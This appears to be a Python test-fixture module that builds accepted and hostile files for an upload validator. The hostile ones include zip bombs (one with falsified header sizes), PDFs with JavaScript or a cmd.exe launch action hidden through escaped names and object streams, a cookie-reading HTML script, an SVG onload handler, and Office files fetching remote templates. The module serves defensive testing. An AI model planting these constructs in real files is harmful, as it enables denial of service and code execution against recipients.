"""Files built in the tests, byte by byte: real ones of each accepted type, and hostile ones."""

import io
import struct
import zipfile
import zlib

from PIL import Image

from tests.factories import MINIMAL_PDF

OOXML_MAIN = {
    "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation.main+xml"),
}
ODF_MIMETYPES = {
    "odt": "application/vnd.oasis.opendocument.text",
    "ods": "application/vnd.oasis.opendocument.spreadsheet",
    "odp": "application/vnd.oasis.opendocument.presentation",
}


def pdf_bytes(padding: int = 0) -> bytes:
    if not padding:
        return MINIMAL_PDF
    # A comment line before the end marker keeps the file a valid PDF of the wanted size.
    return MINIMAL_PDF.replace(b"trailer", b"%" + b"x" * padding + b"\ntrailer")


def content_types_xml(main_type: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/main.xml" ContentType="application/vnd.openxmlformats-officedocument.{main_type}"/>'
        "</Types>"
    )


def ooxml_bytes(kind: str = "docx", *, extra: dict | None = None, content_types: str | None = None) -> bytes:
    main_part, main_type = OOXML_MAIN[kind]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types or content_types_xml(main_type))
        archive.writestr(
            "_rels/.rels", '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
        )
        archive.writestr(main_part, "<document>Compte rendu</document>")
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def odf_bytes(kind: str = "odt", *, mimetype: str | None = None, compress_mimetype: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "mimetype",
            mimetype or ODF_MIMETYPES[kind],
            compress_type=zipfile.ZIP_DEFLATED if compress_mimetype else zipfile.ZIP_STORED,
        )
        archive.writestr(
            "content.xml",
            '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
        )
        archive.writestr("META-INF/manifest.xml", "<manifest:manifest/>")
    return buffer.getvalue()


def image_bytes(image_format: str = "PNG", size=(4, 3)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (11, 93, 122)).save(buffer, image_format)
    return buffer.getvalue()


def zip_bomb(*, unpacked_bytes: int, kind: str = "docx") -> bytes:
    """A well-formed DOCX whose one extra member is `unpacked_bytes` of zeros: a few hundred KB packed."""
    main_part, main_type = OOXML_MAIN[kind]
    buffer = io.BytesIO()
    chunk = bytes(1024 * 1024)
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", content_types_xml(main_type))
        archive.writestr(main_part, "<document/>")
        with archive.open("word/media/zeros.bin", "w", force_zip64=True) as member:
            remaining = unpacked_bytes
            while remaining > 0:
                member.write(chunk[: min(len(chunk), remaining)])
                remaining -= len(chunk)
    return buffer.getvalue()


def many_entries_zip(count: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", content_types_xml(OOXML_MAIN["docx"][1]))
        archive.writestr("word/document.xml", "<document/>")
        for number in range(count):
            archive.writestr(f"word/part{number}.xml", "")
    return buffer.getvalue()


def encrypted_zip() -> bytes:
    """A DOCX-shaped zip whose members carry the "encrypted" flag (zipfile cannot write real encryption)."""
    data = bytearray(ooxml_bytes("docx"))
    # Set bit 0 of the general-purpose flags in every local header and central directory entry.
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (position := data.find(signature, start)) >= 0:
            data[position + offset] |= 0x01
            start = position + 4
    return bytes(data)


EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(48) + b"PE\x00\x00" + bytes(200)
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>'
OLD_WORD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)


# ---- hostile files: PDFs that run something, Office files that fetch something, archives that lie ---------------


def pdf_document(objects: dict[int, bytes]) -> bytes:
    """A well-formed PDF (cross-reference table, trailer) of these objects; object 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
    return bytes(out)


def pdf_with_object_stream(objects: dict[int, bytes]) -> bytes:
    """A PDF 1.5 whose objects all sit in one compressed object stream, indexed by a cross-reference stream:
    nothing of them can be read in the file without inflating it."""
    numbers = sorted(objects)
    header, bodies = [], b""
    for number in numbers:
        header.append(b"%d %d" % (number, len(bodies)))
        bodies += objects[number] + b"\n"
    index = b" ".join(header) + b"\n"
    packed = zlib.compress(index + bodies)
    stream_number, xref_number = max(numbers) + 1, max(numbers) + 2
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    stream_offset = len(out)
    out += (
        b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (stream_number, len(numbers), len(index), len(packed))
        + packed
        + b"\nendstream\nendobj\n"
    )
    xref_offset = len(out)
    rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"]
    for number in range(1, xref_number + 1):
        if number in objects:
            rows.append(b"\x02" + stream_number.to_bytes(4, "big") + numbers.index(number).to_bytes(2, "big"))
        elif number == stream_number:
            rows.append(b"\x01" + stream_offset.to_bytes(4, "big") + b"\x00\x00")
        elif number == xref_number:
            rows.append(b"\x01" + xref_offset.to_bytes(4, "big") + b"\x00\x00")
        else:
            rows.append(b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff")
    table = zlib.compress(b"".join(rows))
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
        % (xref_number, xref_number + 1, len(table))
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    )
    return bytes(out)


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"


def pdf_catalog(extra: bytes = b"") -> bytes:
    return b"<< /Type /Catalog /Pages 2 0 R " + extra + b" >>"


def pdf_with_open_action_javascript() -> bytes:
    return pdf_document(
        {1: pdf_catalog(b"/OpenAction 4 0 R"), 2: PAGES, 3: PAGE, 4: b"<< /S /JavaScript /JS (app.alert(1)) >>"}
    )


def pdf_with_launch_action() -> bytes:
    action = b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"
    return pdf_document({1: pdf_catalog(b"/OpenAction 4 0 R"), 2: PAGES, 3: PAGE, 4: action})


def pdf_with_javascript_name_tree() -> bytes:
    return pdf_document(
        {
            1: pdf_catalog(b"/Names << /JavaScript 4 0 R >>"),
            2: PAGES,
            3: PAGE,
            4: b"<< /Names [(init) 5 0 R] >>",
            5: b"<< /S /JavaScript /JS (this.exportDataObject({cName: 'x'})) >>",
        }
    )


def pdf_with_escaped_names() -> bytes:
    """ "/J#61vaScript" is "/JavaScript" to a PDF reader: the names are read decoded."""
    return pdf_document(
        {1: pdf_catalog(b"/OpenAction 4 0 R"), 2: PAGES, 3: PAGE, 4: b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"}
    )


def pdf_with_javascript_in_an_object_stream() -> bytes:
    return pdf_with_object_stream(
        {1: pdf_catalog(b"/OpenAction 4 0 R"), 2: PAGES, 3: PAGE, 4: b"<< /S /JavaScript /JS (app.alert(1)) >>"}
    )


def pdf_with_a_link_annotation_running_javascript() -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>"
    annotation = b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /JavaScript /JS 5 0 R >> >>"
    script = b"<< /Length 13 >>\nstream\napp.alert(1);\nendstream"
    return pdf_document({1: pdf_catalog(), 2: PAGES, 3: page, 4: annotation, 5: script})


def pdf_plain() -> bytes:
    """An ordinary one-page PDF with a web link: accepted."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>"
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /URI /URI (https://aimf.asso.fr/) >> >>"
    return pdf_document({1: pdf_catalog(), 2: PAGES, 3: page, 4: link})


def pdf_plain_in_an_object_stream() -> bytes:
    return pdf_with_object_stream({1: pdf_catalog(), 2: PAGES, 3: PAGE})


RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def rels(*relationships: tuple[str, str, str]) -> str:
    rows = "".join(
        f'<Relationship Id="rId{number}" Type="{OFFICE_RELATIONSHIP}/{kind}" Target="{target}"'
        + (' TargetMode="External"' if mode == "External" else "")
        + "/>"
        for number, (kind, target, mode) in enumerate(relationships, start=1)
    )
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELATIONSHIPS}">{rows}</Relationships>'


def docx_with_remote_template() -> bytes:
    """Word fetches the template named in settings.xml's relationships when it opens the file."""
    return ooxml_bytes(
        "docx",
        extra={
            "word/settings.xml": "<w:settings/>",
            "word/_rels/settings.xml.rels": rels(("attachedTemplate", "http://198.51.100.7/modele.dotm", "External")),
        },
    )


def docx_with_linked_image() -> bytes:
    return ooxml_bytes(
        "docx",
        extra={"word/_rels/document.xml.rels": rels(("image", "\\\\198.51.100.7\\share\\logo.png", "External"))},
    )


def xlsx_with_external_workbook() -> bytes:
    return ooxml_bytes(
        "xlsx",
        extra={
            "xl/_rels/workbook.xml.rels": rels(("externalLink", "externalLinks/externalLink1.xml", "Internal")),
            "xl/externalLinks/_rels/externalLink1.xml.rels": rels(
                ("externalLinkPath", "file:///C:/Budget/cotisations.xlsx", "External")
            ),
        },
    )


def docx_with_hyperlink() -> bytes:
    """An ordinary document with a link to a web page: accepted."""
    return ooxml_bytes(
        "docx", extra={"word/_rels/document.xml.rels": rels(("hyperlink", "https://aimf.asso.fr/", "External"))}
    )


ODF_CONTENT = (
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:text>{}</office:text></office:body>'
    "</office:document-content>"
)


def odt_with(body: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", ODF_MIMETYPES["odt"], compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", ODF_CONTENT.format(body))
        archive.writestr("META-INF/manifest.xml", "<manifest:manifest/>")
    return buffer.getvalue()


def odt_with_linked_image() -> bytes:
    return odt_with(
        '<draw:frame><draw:image xlink:href="http://198.51.100.7/pixel.png" xlink:type="simple"/></draw:frame>'
    )


def odt_with_hyperlink() -> bytes:
    return odt_with('<text:p><text:a xlink:href="https://aimf.asso.fr/">AIMF</text:a></text:p>')


def understated_zip_bomb(*, unpacked_bytes: int) -> bytes:
    """A DOCX whose directory says its one big member unpacks to 1 KB: it unpacks to `unpacked_bytes`."""
    main_part, main_type = OOXML_MAIN["docx"]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types_xml(main_type))
        archive.writestr(main_part, "<document/>")
        # 16 MB of zeros deflated once; after a full flush the compressor forgets them, so the same bytes follow.
        compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
        chunk = bytes(16 * 1024 * 1024)
        block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
        assert unpacked_bytes % len(chunk) == 0
        packed = block * (unpacked_bytes // len(chunk)) + compressor.flush()
        info = zipfile.ZipInfo("word/media/image1.png", date_time=(2023, 5, 18, 9, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        # Written as stored bytes of the deflated stream, then relabelled: zipfile keeps the sizes it is told.
        archive.writestr(info, b"")
    data = bytearray(buffer.getvalue())
    # Splice the deflated data into the empty member and write the lie (1 KB unpacked) in both headers.
    local = data.rfind(b"PK\x03\x04", 0, data.find(b"PK\x01\x02"))
    name_length, extra_length = struct.unpack("<2H", data[local + 26 : local + 30])
    start = local + 30 + name_length + extra_length
    old_size = struct.unpack("<L", data[local + 18 : local + 22])[0]
    data[start : start + old_size] = packed
    struct.pack_into("<3L", data, local + 14, 0, len(packed), 1024)
    central = data.find(b"PK\x01\x02", start + len(packed))
    while central >= 0:
        name_length = struct.unpack("<H", data[central + 28 : central + 30])[0]
        if data[central + 46 : central + 46 + name_length] == b"word/media/image1.png":
            struct.pack_into("<3L", data, central + 16, 0, len(packed), 1024)
        central = data.find(b"PK\x01\x02", central + 46)
    end = data.rfind(b"PK\x05\x06")
    directory_offset = data.find(b"PK\x01\x02", start + len(packed))
    struct.pack_into("<L", data, end + 16, directory_offset)
    return bytes(data)
